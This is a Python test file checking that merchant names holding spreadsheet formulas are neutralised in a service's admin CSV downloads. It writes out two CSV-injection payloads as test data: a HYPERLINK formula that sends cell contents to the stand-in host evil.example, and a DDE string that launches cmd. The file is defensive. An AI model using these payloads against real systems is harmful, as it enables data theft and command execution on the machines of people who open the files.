"""CSV injection (the hardening review, issue 11): spreadsheet formulas a merchant writes
into its name come out inert in every CSV the bureau downloads."""

from __future__ import annotations

import uuid

from tests.conftest import Api
from tests.support.checkout import (
    cashier,
    checkout_body,
    claimed_codes,
)
from tests.support.downloads import csv_dicts

REDEMPTIONS = "/api/v1/merchant/redemptions"


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点我")'


async def test_spreadsheet_formulas_come_out_inert_in_every_csv(api: Api) -> None:
    from datetime import date

    shop = await cashier(api, name=FORMULA)
    other = await cashier(api, name="@SUM(1+1)*cmd|' /C calc'!A0")
    for who in (shop, other):
        (code,) = await claimed_codes(api, 1)
        await api.call(
            "POST",
            REDEMPTIONS,
            json=checkout_body(code),
            headers={**who["headers"], "Idempotency-Key": uuid.uuid4().hex},
            expect=201,
        )
    day = date(2020, 5, 6)
    api.clock.advance(days=1)  # the day is over: it can be settled
    for job in ("daily_rollup", "settlement"):
        await api.run_job(job, day)
    downloads = {
        "merchants": "/api/v1/admin/merchants?format=csv",
        "settlement": "/api/v1/admin/settlements?date=2020-05-06&format=csv",
        "merchant day": "/api/v1/stats/merchants?date=2020-05-06&format=csv",
    }
    for what, path in downloads.items():
        status, text = await api.call("GET", path, headers=api.bureau)
        assert status == 200, (what, text)
        rows = csv_dicts(text)
        names = {r.get("name") or r.get("merchant_name") for r in rows}
        assert "'" + FORMULA in names, (what, text)
        assert "'@SUM(1+1)*cmd|' /C calc'!A0" in names, (what, text)
        for row in rows:
            for value in row.values():
                assert not value.startswith(("=", "@")), (what, row)
    # Negative numbers stay numbers: a -2000 adjustment is not text to neutralise.
    from service.csvtext import cell

    assert cell(-2000) == -2000 and cell("-2000") == "-2000" and cell("-1+1") == "'-1+1"
    assert cell("\tx") == "'\tx" and cell("\rx") == "'\rx" and cell("+86") == "+86"
